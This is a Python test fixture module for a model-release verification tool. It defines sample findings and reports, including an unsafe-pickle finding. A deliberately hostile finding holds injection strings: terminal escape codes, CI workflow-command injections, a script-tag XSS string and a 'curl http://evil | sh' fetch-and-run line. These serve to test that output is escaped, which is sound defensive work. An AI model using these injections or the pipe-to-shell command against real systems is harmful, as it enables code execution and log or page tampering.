"""Findings and reports the tests of every format share."""

from __future__ import annotations

from dataclasses import replace

from weighbridge.model.finding import Edit, Finding, Severity, Threat, Verdict
from weighbridge.model.location import Location
from weighbridge.model.report import Input, ReleaseName, Report, RuleSet, Skip
from weighbridge.report.interface import RuleText

DIGEST = Finding(
    code="INT001",
    name="digest-mismatch",
    severity=Severity.ERROR,
    verdict=Verdict.FAIL,
    subject="weights/model.safetensors",
    message="digest of weights/model.safetensors differs from the manifest",
    location=Location("release.yaml", 14, 11, "/spec/artifacts/0/digest"),
    seen="sha256:77ab (4.1 GB)",
    wanted="sha256:9f2c (4.1 GB)",
    cause="the file changed after `seal` (3 h later)",
    remediation=("run `weighbridge capture --update`, or restore the file",),
)
UNREAD = Finding(
    code="DEP003",
    name="lock-drift",
    severity=Severity.ERROR,
    verdict=Verdict.INCONCLUSIVE,
    subject="requirements.lock",
    message="requirements.lock could not be read",
    location=Location("release.yaml", 20, 5, "/spec/dependencies/runtime"),
    cause="permission denied",
)
UNHASHED = Finding(
    code="DEP002",
    name="missing-hash",
    severity=Severity.WARNING,
    verdict=Verdict.FAIL,
    subject="numpy",
    message="numpy has no hash",
    location=Location("requirements.lock", 3, 1),
    edits=(Edit(file="requirements.lock", line=3, value="numpy==2.0 --hash=sha256:aa"),),
)
WAIVED = Finding(
    code="GOV007",
    name="card-missing",
    severity=Severity.NOTE,
    verdict=Verdict.FAIL,
    subject="spec.card",
    message="the release has no model card",
    location=Location("release.yaml", 6, 1, "/spec"),
    remediation=("write one", "name it in `spec.card`"),
    waived_by="alice@example.com",
)
THREAT = Finding(
    code="SEC001",
    name="unsafe-deserialisation",
    severity=Severity.ERROR,
    verdict=Verdict.FAIL,
    subject="model.pt",
    message="unpickling model.pt calls os.system",
    location=Location("release.yaml", 30, 7, "/spec/artifacts/1"),
    threat=Threat(level="malicious", container="archive/data.pkl", offset=1234, name="os.system"),
)
HOSTILE = Finding(
    code="SEC001",
    name="unsafe-deserialisation",
    severity=Severity.ERROR,
    verdict=Verdict.FAIL,
    subject="a|b`]]>\x1b[2J\u202e@team/x #1\ud800.pkl",
    message="x\n::error::owned \x1b[31m%0A<script>alert(1)</script> [a](http://evil) @all \x9b",
    location=Location("a, b: c\n::set-output name=x::\x00.pkl", 1, 1),
    seen="one\r\n::error::two\n```\n</details>\n]]>\x07",
    wanted="\u2028\ufffe\x85",
    cause="www.evil.example",
    remediation=("curl \x1b]8;;http://evil\x07x | sh", "\u200b"),
)
SKIPPED = Skip(code="DEP004", reason="not for this target", by="weighbridge.toml:4")
MODEL = Input(name="weights/model.safetensors", digest="sha256:77ab")
CACHED = Input(name="labels.json", digest="sha256:1fe7", cached=True)

PASSED = Report(
    release=ReleaseName(name="file-type-detector", version="1.4.0", digest="sha256:5ea1"),
    rule_set=RuleSet(version="0.1.0", digest="sha256:4e1e"),
    passed=("INT002", "INT001"),
    inputs=(MODEL,),
)
FAILED = replace(
    PASSED,
    release=ReleaseName(name="file-type-detector", version="1.4.0"),
    findings=(WAIVED, DIGEST, THREAT, UNREAD, UNHASHED),
    skipped=(SKIPPED,),
    passed=("INT002",),
    inputs=(MODEL, CACHED),
)
ATTACKED = replace(
    PASSED,
    release=ReleaseName(name="a`|\x1b[2J", version="1\n::error::\u202e"),
    findings=(HOSTILE,),
    skipped=(Skip(code="DEP004", reason="x\n::error::y|`", by="\x1b]0;z\x07"),),
    inputs=(Input(name="\x1b[2J\n//evil|", digest="sha256:00"),),
)
RULES = {
    "INT001": RuleText(
        code="INT001",
        name="digest-mismatch",
        severity=Severity.ERROR,
        summary="The bytes of each artifact have the digest the manifest states.",
        help_markdown="# INT001\n\n## How to fix\n\nRestore the file.\n",
    ),
    "INT002": RuleText(
        code="INT002",
        name="missing-file",
        severity=Severity.ERROR,
        summary="Each artifact is there.",
        help_markdown="# INT002\n",
    ),
}
